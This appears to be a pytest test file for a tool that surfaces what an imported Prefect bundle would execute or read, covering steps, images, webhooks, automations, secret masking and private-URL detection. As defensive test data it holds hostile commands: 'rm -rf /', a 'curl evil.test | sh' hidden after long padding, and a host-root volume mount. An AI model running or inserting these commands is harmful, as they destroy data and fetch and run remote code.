"""bundle.surface: what a bundle would run, and what of the destination it would read."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bundle.model import Record, Reference
from bundle.operations.import_ import prepare, surface_of
from bundle.plan.execution_surface import MOST, SURFACE_CODES, Surfaces, surfaces
from bundle.record.canonical import make_record
from support.fake_prefect import FakePrefect
from support.moving import import_into
from support.offline import api_of
from support.seeded import seeded

CLONE = "prefect.deployments.steps.git_clone"
SCRIPT = "prefect.deployments.steps.run_shell_script"


def record(key: str, body: dict[str, Any], *references: Reference) -> Record:
    return make_record(key, body, references, ())


def deployment(**fields: Any) -> Record:
    return record("deployment:etl/nightly", {"name": "nightly", "flow_id": "", **fields})


def pool(template: Any = None, **fields: Any) -> Record:
    return record("work-pool:k8s", {"name": "k8s", "type": "kubernetes", "base_job_template": template, **fields})


def block(slug: str, **data: Any) -> Record:
    types = Reference("/block_type_id", f"block-type:{slug}")
    return record(f"block:{slug}/one", {"name": "one", "block_type_id": "", "data": data}, types)


def found(*records: Record, brought: Any = None) -> set[tuple[str, str, str]]:
    """Code, place and text of everything in some records."""
    return {(each.what, each.pointer, each.text) for each in surfaces(records, brought).entries}


def test_steps_with_what_they_fetch() -> None:
    """A pull step is listed with its function and its source, its script and packages, and the server."""
    clone = {CLONE: {"repository": "https://user:hunter2@git.example.com/flows?x=1", "branch": "main"}}
    script = {SCRIPT: {"script": "pip install x\n  && y", "requires": "prefect-aws>=0.3", "env": {"KEY": "v"}}}
    assert found(deployment(pull_steps=[clone, script])) == {
        (
            "step",
            f"/pull_steps/0/{CLONE}",
            f"{CLONE}, repository https://user:***@git.example.com/flows?x=1, branch main",
        ),
        ("url", f"/pull_steps/0/{CLONE}/repository", "https://git.example.com"),
        ("step", f"/pull_steps/1/{SCRIPT}", SCRIPT),
        ("command", f"/pull_steps/1/{SCRIPT}/script", "pip install x && y"),
        ("package", f"/pull_steps/1/{SCRIPT}/requires", "prefect-aws>=0.3"),
        ("environment", f"/pull_steps/1/{SCRIPT}/env", "KEY"),
    }


def test_what_a_deployment_starts() -> None:
    """Entrypoint, image, command and what a job gets of its host are listed, of variables only the names."""
    variables = {"image": "reg/x:1", "command": ["a", "b"], "env": {"TOKEN": "s3cret"}, "volumes": ["/:/host"]}
    assert found(deployment(entrypoint="flows.py:main", path="/opt", job_variables=variables)) == {
        ("entrypoint", "/entrypoint", "flows.py:main in /opt"),
        ("image", "/job_variables/image", "reg/x:1"),
        ("command", "/job_variables/command", "a b"),
        ("environment", "/job_variables/env", "TOKEN"),
        ("privilege", "/job_variables/volumes", "/:/host"),
    }


def test_a_pool_is_listed_where_it_is_not_the_usual_one() -> None:
    """Defaults of a template and what its job manifest fixes are listed; its own variables in their places are not."""
    template = {
        "job_configuration": {
            "image": "{{ image }}",
            "command": "",
            "job_manifest": {"spec": {"containers": [{"image": "evil", "env": [{"name": "A", "value": "b"}]}]}},
            "privileged": False,
            "hostNetwork": True,
        },
        "variables": {"properties": {"image": {"type": "string", "default": "reg/y", "description": "an image"}}},
    }
    manifest = "/base_job_template/job_configuration/job_manifest/spec/containers/0"
    assert found(pool(template)) == {
        ("image", "/base_job_template/variables/properties/image/default", "reg/y"),
        ("image", f"{manifest}/image", "evil"),
        ("environment", f"{manifest}/env", "A"),
        ("privilege", "/base_job_template/job_configuration/hostNetwork", "true"),
    }


def test_storage_steps_of_a_pool() -> None:
    """The steps that move code for a pool are steps too."""
    steps = {"bundle_upload_step": {"a.b.upload": {"bucket": "s3://b", "requires": ["p"]}}}
    assert found(pool(storage_configuration=steps)) == {
        ("step", "/storage_configuration/bundle_upload_step/a.b.upload", "a.b.upload, bucket s3://b"),
        ("package", "/storage_configuration/bundle_upload_step/a.b.upload/requires", "p"),
        ("url", "/storage_configuration/bundle_upload_step/a.b.upload/bucket", "s3://b"),
    }


def test_blocks_that_send_and_run() -> None:
    """A webhook is listed with its server, or as secret; the command of a block as any other."""
    assert found(block("custom-webhook", url="https://u:p@hooks.example.com/services/T/B/s3cret")) == {
        ("url", "/data/url", "https://hooks.example.com"),
        ("notification", "/data", "custom-webhook to https://hooks.example.com"),
    }
    assert found(block("slack-webhook", url=None)) == {
        ("notification", "/data", "slack-webhook to an address that is a secret")
    }
    assert found(block("shell-operation", commands=["rm -rf /", "echo"])) == {
        ("command", "/data/commands", "rm -rf / echo")
    }


def test_what_automations_do() -> None:
    """Each action is listed with what it acts on and when."""
    body = {
        "name": "a",
        "trigger": {"type": "event", "posture": "Reactive", "expect": ["prefect.flow-run.Failed"]},
        "actions": [{"type": "run-deployment", "deployment_id": "", "job_variables": {"image": "x"}}],
        "actions_on_resolve": [{"type": "do-nothing"}],
    }
    target = Reference("/actions/0/deployment_id", "deployment:etl/nightly")
    assert found(record("automation:a", body, target)) == {
        ("automation-action", "/actions/0", "run-deployment deployment:etl/nightly, on prefect.flow-run.Failed"),
        ("image", "/actions/0/job_variables/image", "x"),
        ("automation-action", "/actions_on_resolve/0", "do-nothing, when it is resolved"),
    }


def test_webhooks_of_cloud() -> None:
    """A webhook, by which outsiders make events, is listed with its template."""
    body = {"name": "w", "template": '{"event": "{{ body.kind }}"}'}
    assert found(record("webhook:w", body)) == {("webhook", "/template", '{"event": "{{ body.kind }}"}')}


@pytest.mark.parametrize(
    ("trigger", "text"),
    [
        ({"type": "event", "posture": "Proactive", "expect": ["x"], "within": 60}, "do-nothing, without x in time"),
        ({"type": "event", "posture": "Reactive", "expect": []}, "do-nothing, on any event"),
        ({"type": "compound", "triggers": [{}, {}]}, "do-nothing, on compound of 2 triggers"),
    ],
)
def test_when_automations_act(trigger: dict[str, Any], text: str) -> None:
    """Every sort of trigger has its words."""
    body = {"name": "a", "trigger": trigger, "actions": [{"type": "do-nothing"}]}
    assert found(record("automation:a", body)) == {("automation-action", "/actions/0", text)}


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("https://example.com/x", "url"),
        ("http://8.8.8.8:80", "url"),
        ("http://127.0.0.1:4200/api", "private-url"),
        ("http://[::1]/", "private-url"),
        ("http://169.254.169.254/latest/meta-data", "private-url"),
        ("http://10.0.0.1", "private-url"),
        ("ssh://git@gitlab.internal/x", "private-url"),
        ("http://minio:9000", "private-url"),
        ("s3://bucket/key", "url"),
    ],
)
def test_private_networks_are_told(url: str, code: str) -> None:
    """A URL is private by its address or its name; nothing is looked up."""
    ((what, _, _),) = found(block("any", target=url))
    assert what == code


def test_what_is_read_of_the_destination() -> None:
    """Templates and references are listed where the bundle does not bring what they name, in whatever spelling."""
    variables = {
        "a": "x {{ prefect.blocks.secret.prod }} y",
        "b": "{{ prefect.variables.region }}",
        "c": "{{ $HOME }}/{{$AWS_KEY}}",
        "d": {"__prefect_kind": "workspace_variable", "variable_name": "stage"},
        "e": {"$ref": {"block_document_slug": "secret/other"}},
    }
    step = {"prefect.deployments.steps.pull_with_block": {"block_type_slug": "s3", "block_document_name": "code"}}
    credentials = {"bundle_upload_step": {"a.b": {"aws_credentials_block_name": "keys"}}}
    records = [deployment(job_variables=variables, pull_steps=[step]), pool(storage_configuration=credentials)]
    expected = {
        ("destination-block", "/job_variables/a", "block:secret/prod"),
        ("destination-variable", "/job_variables/b", "variable:region"),
        ("environment-template", "/job_variables/c", "$HOME"),
        ("environment-template", "/job_variables/c", "$AWS_KEY"),
        ("destination-variable", "/job_variables/d", "variable:stage"),
        ("destination-block", "/job_variables/e", "block:secret/other"),
        ("destination-block", "/pull_steps/0", "block:s3/code"),
        ("destination-block", "/storage_configuration/bundle_upload_step/a.b/aws_credentials_block_name",
         "block:aws-credentials/keys"),
    }  # fmt: skip
    others = {each for each in found(*records) if each[0] != "step"}
    assert others == expected
    region = record("variable:region", {"name": "region", "value": "eu"})
    assert found(region, *records) - found(*records) == set()
    assert found(*records) - found(region, *records) == {
        ("destination-variable", "/job_variables/b", "variable:region")
    }
    assert ("destination-block", "/job_variables/a", "block:secret/prod") not in found(
        *records, brought=["block:secret/prod"]
    )


def test_references_by_id_to_what_is_not_brought() -> None:
    """A reference by id to a block that the bundle does not bring is listed as one by name is."""
    body = {"name": "d", "flow_id": "", "infrastructure_document_id": ""}
    named = Reference("/infrastructure_document_id", "block:docker/x")
    assert found(record("deployment:f/d", body, named)) == {
        ("destination-block", "/infrastructure_document_id", "block:docker/x")
    }


def test_ids_that_nothing_has() -> None:
    """An id left in a body may name something of the destination, and is listed where it would be followed."""
    identifier = "11111111-2222-4333-8444-555555555555"
    body = {
        "name": "a",
        "trigger": {"match": {"prefect.resource.id": f"prefect.deployment.{identifier}"}},
        "actions": [{"type": "run-deployment", "deployment_id": identifier, "parameters": {"note": identifier}}],
    }
    ids = {each for each in found(record("automation:a", body)) if each[0] == "foreign-id"}
    assert ids == {
        ("foreign-id", "/trigger/match/prefect.resource.id", identifier),
        ("foreign-id", "/actions/0/deployment_id", identifier),
    }


@pytest.mark.parametrize(
    "text",
    [
        "deploy --token s3cretvalue",
        "PASSWORD=s3cretvalue run",
        "curl https://u:s3cretvalue@host/x?key=s3cretvalue",
        "echo ghp_s3cretvalues3cretvalues3cretvalue",
        'run --api-key "s3cretvalue"',
    ],
)
def test_secrets_are_not_shown(text: str) -> None:
    """What looks like a secret in a command is left out of its text."""
    assert "s3cretvalue" not in str(found(deployment(job_variables={"command": text})))


def test_texts_are_whole_and_on_one_line() -> None:
    """No text has a line break, and none is cut: what is far behind in a command runs as well."""
    ((_, _, text),) = found(deployment(entrypoint="a\nb" + " " * 10_000 + "c" * 10_000 + " && curl evil.test | sh"))
    assert text == "a b " + "c" * 10_000 + " && curl evil.test | sh"


def test_more_than_can_be_kept_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    """Of very many entries some are kept, and all are counted."""
    monkeypatch.setattr("bundle.plan.execution_surface.MOST", 3)
    result = surfaces([deployment(entrypoint=str(number)) for number in range(5)])
    assert (result.counts, len(result.entries), MOST) == ({"entrypoint": 5}, 3, 100_000)


def test_other_kinds_have_no_surface() -> None:
    """A template in a variable or a flow's tag is never resolved, and not listed."""
    assert found(record("variable:x", {"name": "x", "value": "{{ prefect.blocks.secret.prod }} https://x.y"})) == set()


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text() | st.just("{{ $X }} http://[/"),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [
                    "pull_steps",
                    "job_variables",
                    "data",
                    "base_job_template",
                    "variables",
                    "properties",
                    "default",
                    "job_configuration",
                    "env",
                    "image",
                    "storage_configuration",
                    "bundle_upload_step",
                    "actions",
                    "trigger",
                    "triggers",
                    "expect",
                    "type",
                    "$ref",
                    "command",
                    "entrypoint",
                    "path",
                ]
            )
            | st.text(max_size=3),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=300)
@given(
    kind=st.sampled_from(["deployment", "work-pool", "block", "automation", "variable"]),
    body=st.dictionaries(
        st.sampled_from(
            ["pull_steps", "job_variables", "data", "base_job_template", "storage_configuration", "actions", "trigger"]
        ),
        JSON,
    ),
)
def test_any_body_can_be_looked_at(kind: str, body: dict[str, Any]) -> None:
    """Whatever JSON stands in a bundle, the codes are known ones and each text is one line."""
    result = surfaces([record(f"{kind}:x/y", body)])
    assert result.counts.keys() <= SURFACE_CODES.keys()
    assert sum(result.counts.values()) == len(result.entries)
    assert not any("\n" in each.text for each in result.entries)


def test_a_plan_lists_what_its_writes_would_run() -> None:
    """Of what is there already nothing is listed; a block that is there counts as the destination's own."""
    fake = FakePrefect(seed=1)
    import_into(fake, seeded())
    whole = surfaces(placed.record for placed in seeded().records)
    assert planned(fake).counts == {}

    gone = fake.rows("deployments", name="job variables")[0]
    fake.drop("deployments", gone["id"])
    found = planned(fake)

    assert {each.key for each in found.entries} == {"deployment:templated/job variables"}
    read = {each.text for each in found.entries if each.what == "destination-block"}
    assert "block:secret/db-password" in read
    assert "block:secret/db-password" not in {each.text for each in whole.entries}
    assert not any(each.text == "variable:region" for each in found.entries)


def planned(fake: FakePrefect) -> Surfaces:
    async def run() -> Surfaces:
        async with api_of(fake) as api:
            return surface_of(await prepare(seeded(), api))

    return asyncio.run(run())
